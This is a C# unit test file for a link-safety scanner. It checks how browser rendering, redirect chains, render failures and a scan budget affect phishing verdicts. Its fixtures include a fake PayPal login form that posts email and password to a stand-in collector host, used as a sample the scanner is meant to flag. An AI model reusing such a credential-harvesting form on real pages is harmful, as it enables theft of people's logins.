using Microsoft.AspNetCore.Http;
using Nylas.LinkSafety.Scanning.Rendering;
using Nylas.LinkSafety.Scanning.Scoring;
using Nylas.LinkSafety.Testing.Scanning;

namespace Nylas.LinkSafety.Scanning.Tests.Fetching;

/// <summary>The scanner with a browser beside it.</summary>
public sealed class RenderedScanSpecs(LoopbackWeb web) : IClassFixture<LoopbackWeb>
{
    private const string Url = "http://shell.example-site.com/";
    private const string Shell = "<!DOCTYPE html><title>Loading</title><div id=app></div><script src=/app.js></script>";
    private const string Phishing = "<!DOCTYPE html><title>PayPal: Log in</title><h1>PayPal</h1><form action='https://collector.example-other.net/take'><input name=email><input type=password name=pass></form>";

    [Fact]
    public async Task What_script_draws_is_judged()
    {
        Serve(Shell);
        var browser = FakePageRenderer.Sees(Url, Phishing);
        using var under = new ScannerUnderTest(web, renderer: browser);
        using var blind = new ScannerUnderTest(web);

        var report = await under.ScanAsync(Url);

        Assert.Equal([Url], browser.Asked);
        Assert.Equal("PayPal: Log in", report.Page?.Title);
        Assert.Equal((Verdict.Malicious, RenderOutcome.Rendered), (report.Assessment.Verdict, report.Rendered!.Outcome));
        Assert.NotEqual(Verdict.Malicious, (await blind.ScanAsync(Url)).Assessment.Verdict);
    }

    [Fact]
    public async Task Where_the_browser_has_gone_is_the_end_of_the_chain()
    {
        Serve(Shell);
        using var under = new ScannerUnderTest(web, renderer: FakePageRenderer.Sees("http://final.example-other.net/login", Phishing));

        var report = await under.ScanAsync(Url);

        Assert.Equal("http://final.example-other.net/login", report.FinalUrl);
        Assert.Equal(
            [(Url, HopKind.Start, null), ("http://final.example-other.net/login", HopKind.ScriptRedirect, "seen in a browser")],
            report.Chain.Select(hop => (hop.Url, hop.Kind, hop.Why)));
    }

    [Theory]
    [InlineData("<!DOCTYPE html><title>Lamps</title><p>Hand-made lamps since 1998.")]
    [InlineData("<!DOCTYPE html><title>Lamps</title><script src=/menu.js></script><p>Hand-made lamps since 1998. Open on weekdays from nine to five, on Saturdays until noon. We mend what others throw away, and we send our lamps wherever the post goes. Ask for our list of prices, or come and see for yourself in the harbour.")]
    public async Task A_page_that_says_enough_by_itself_needs_no_browser(string html)
    {
        Serve(html);
        var browser = FakePageRenderer.Sees(Url, Phishing);
        using var under = new ScannerUnderTest(web, renderer: browser);

        var report = await under.ScanAsync(Url);

        Assert.Empty(browser.Asked);
        Assert.Null(report.Rendered);
    }

    [Theory]
    [InlineData(RenderOutcome.NotOpened)]
    [InlineData(RenderOutcome.TimedOut)]
    [InlineData(RenderOutcome.TooLarge)]
    [InlineData(RenderOutcome.BrowserFailed)]
    [InlineData(RenderOutcome.Overloaded)]
    public async Task A_browser_that_brings_nothing_says_nothing(RenderOutcome outcome)
    {
        Serve(Shell);
        using var under = new ScannerUnderTest(web, renderer: new FakePageRenderer(new RenderedPage { Outcome = outcome, Fault = "for a test" }));
        using var blind = new ScannerUnderTest(web);

        var report = await under.ScanAsync(Url);

        Assert.Equal(outcome, report.Rendered!.Outcome);
        Assert.Equal(await blind.ScanAsync(Url), report);
    }

    [Fact]
    public async Task A_page_that_leads_a_browser_to_a_one_time_link_was_not_seen()
    {
        Serve(Shell);
        using var under = new ScannerUnderTest(web, renderer: new FakePageRenderer(new RenderedPage { Outcome = RenderOutcome.TokenBearing }));

        var report = await under.ScanAsync(Url);

        Assert.Equal((ScanOutcome.NotFetched, "token-bearing", Verdict.Suspicious), (report.Outcome, report.OutcomeReason, report.Assessment.Verdict));
    }

    [Fact]
    public async Task A_page_that_shows_a_browser_less_than_its_source_is_judged_by_its_source()
    {
        Serve(Phishing + "<script>eval('x')</script>");
        using var under = new ScannerUnderTest(web, renderer: FakePageRenderer.Sees(Url, "<!DOCTYPE html><title>Nothing here</title><p>Move along."));

        Assert.Equal(Verdict.Malicious, (await under.ScanAsync(Url)).Assessment.Verdict);
    }

    [Fact]
    public async Task A_look_with_the_browser_is_paid_for()
    {
        Serve(Shell);
        var browser = FakePageRenderer.Sees(Url, Phishing);
        using var under = new ScannerUnderTest(web, renderer: browser) { Budget = 1 };

        var report = await under.ScanAsync(Url);

        Assert.Empty(browser.Asked);
        Assert.Equal(ScanOutcome.Completed, report.Outcome);
    }

    private void Serve(string html) => web.Answer = context =>
    {
        context.Response.ContentType = "text/html; charset=utf-8";
        return context.Response.WriteAsync(html);
    };
}
